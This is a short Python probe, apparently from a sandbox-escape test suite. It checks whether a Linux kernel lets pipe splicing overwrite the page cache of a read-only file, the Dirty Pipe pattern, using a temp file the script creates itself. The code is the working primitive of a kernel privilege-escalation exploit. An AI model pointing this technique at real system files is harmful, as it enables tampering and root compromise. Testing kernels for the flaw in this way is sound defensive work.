# Splice a byte of a read-only file into a pipe whose buffers may be merged into, then write to the pipe. The file is the
# box's own, opened for reading only: a kernel that has the bug shows it, and nobody is harmed.
path = "/tmp/read-only-" + NONCE
with open(path, "wb") as file: file.write(b"a" * 64)
fd = os.open(path, os.O_RDONLY)
reader, writer = os.pipe()
for _ in range(16): os.write(writer, b"x" * 4096)
for _ in range(16): os.read(reader, 4096)
place = ctypes.c_long(0)
if libc.splice(fd, ctypes.byref(place), writer, None, ctypes.c_size_t(1), 0) != 1:
    held("splice: " + errno.errorcode.get(ctypes.get_errno(), "nothing moved"))
os.write(writer, b"b")
if open(path, "rb").read() != b"a" * 64: escaped("the page cache of a file that was opened for reading changed")
held("the file is as it was after the write")
